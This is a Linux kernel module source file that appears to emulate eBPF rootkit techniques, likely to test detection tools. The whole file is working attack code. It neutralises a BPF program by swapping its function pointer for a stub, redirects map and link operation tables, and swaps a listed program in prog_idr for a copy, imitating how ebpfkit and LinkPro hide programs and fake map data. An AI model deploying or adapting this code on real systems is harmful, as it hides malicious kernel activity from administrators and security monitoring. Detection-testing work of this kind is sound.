// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
/*
 * Technique: objects of BPF changed behind the back of the system call: a program that is entered in the module (how=entry), a
 * listed program that stands in memory of nobody (how=copy), a map or a link with operations that belong to nobody (how=map,
 * how=link). Who: ebpfkit and LinkPro hide programs; maps that show false data.
 * Changes: the object at `object`. Undone when it is unloaded.
 */
#include "attack.h"

#include <linux/bpf.h>
#include <linux/filter.h>
#include <linux/idr.h>
#include <linux/slab.h>

KERNEL_SYMBOL(prog_idr);
VARIANT("entry");
static unsigned long object;
module_param(object, ulong, 0);

static void **place, *original, *copy;
static int id;

static noinline unsigned int hooked_program(const void *context, const struct bpf_insn *instructions)
{
	return 0;
}

static int copy_table(size_t size)
{
	copy = kmemdup(*place, size, GFP_KERNEL);
	if (!copy)
		return -ENOMEM;
	original = *place;
	write_pointer(place, copy);
	return 0;
}

static int __init start(void)
{
	struct bpf_prog *program = (void *)object;

	if (!object)
		return -ENOENT;
	if (HOW("map")) {
		place = (void **)&((struct bpf_map *)object)->ops;
		return copy_table(sizeof(struct bpf_map_ops));
	}
	if (HOW("link")) {
		place = (void **)&((struct bpf_link *)object)->ops;
		return copy_table(sizeof(struct bpf_link_ops));
	}
	if (HOW("copy")) {
		if (!prog_idr_at)
			return -ENOENT;
		copy = vmalloc(PAGE_SIZE);
		if (!copy)
			return -ENOMEM;
		memcpy(copy, program, PAGE_SIZE);
		id = program->aux->id;
		original = idr_replace((struct idr *)prog_idr_at, copy, id);
		return 0;
	}
	place = (void **)&program->bpf_func;
	original = *place;
	write_pointer(place, hooked_program);
	return 0;
}

static void __exit stop(void)
{
	if (HOW("copy")) {
		idr_replace((struct idr *)prog_idr_at, original, id);
		synchronize_rcu();
		vfree(copy);
		return;
	}
	write_pointer(place, original);
	synchronize_rcu();
	kfree(copy);
}

ATTACK(start, stop);
